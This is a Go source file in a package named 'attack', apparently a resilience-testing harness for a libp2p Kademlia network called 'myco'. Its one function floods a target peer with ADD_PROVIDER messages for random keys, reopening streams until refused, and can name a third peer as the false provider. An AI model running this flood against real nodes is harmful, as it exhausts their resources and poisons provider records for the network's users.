package attack

import (
	"context"
	"crypto/rand"
	"crypto/sha256"
	"fmt"

	pb "github.com/libp2p/go-libp2p-kad-dht/pb"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	"github.com/libp2p/go-msgio/pbio"
	"github.com/multiformats/go-multihash"
	"google.golang.org/protobuf/proto"
)

// KadProtocol is myco's Kademlia protocol.
const KadProtocol protocol.ID = "/myco/kad/1.0.0"

// ProviderFlood is what FloodProviders achieved.
type ProviderFlood struct {
	// Sent counts ADD_PROVIDER messages written; Streams the streams
	// opened for them (a reset stream is replaced by a new one).
	Sent    int
	Streams int
	// BytesOut is what the messages weighed on the wire.
	BytesOut int64
	// Err is why the flood stopped early (nil when all n were sent).
	Err error
}

// FloodProviders sends n ADD_PROVIDER messages for random keys from h to
// target, all naming h itself as the provider (so a victim that stores
// only records whose provider is the sender stores them), down one stream
// as fast as the stream takes them; when the victim resets the stream a
// new one is opened, until the victim refuses the connection. When
// otherProvider is set, every record names that peer instead.
func FloodProviders(ctx context.Context, h host.Host, target peer.ID, n int, otherProvider *peer.AddrInfo) ProviderFlood {
	var res ProviderFlood
	prov := peer.AddrInfo{ID: h.ID(), Addrs: h.Addrs()}
	if otherProvider != nil {
		prov = *otherProvider
	}
	var (
		str network.Stream
		w   pbio.WriteCloser
	)
	defer func() {
		if str != nil {
			str.Close()
		}
	}()
	key := make([]byte, 32)
	for res.Sent < n {
		if ctx.Err() != nil {
			res.Err = ctx.Err()
			return res
		}
		if str == nil {
			s, err := h.NewStream(network.WithNoDial(ctx, "attack"), target, KadProtocol)
			if err != nil {
				res.Err = fmt.Errorf("open stream after %d records: %w", res.Sent, err)
				return res
			}
			str, w = s, pbio.NewDelimitedWriter(s)
			res.Streams++
		}
		rand.Read(key)
		sum := sha256.Sum256(key)
		mh, _ := multihash.Encode(sum[:], multihash.SHA2_256)
		msg := pb.NewMessage(pb.Message_ADD_PROVIDER, mh, 0)
		msg.ProviderPeers = pb.RawPeerInfosToPBPeers([]peer.AddrInfo{prov})
		if err := w.WriteMsg(msg); err != nil {
			str.Reset()
			str = nil
			continue
		}
		res.Sent++
		res.BytesOut += int64(proto.Size(msg))
	}
	return res
}
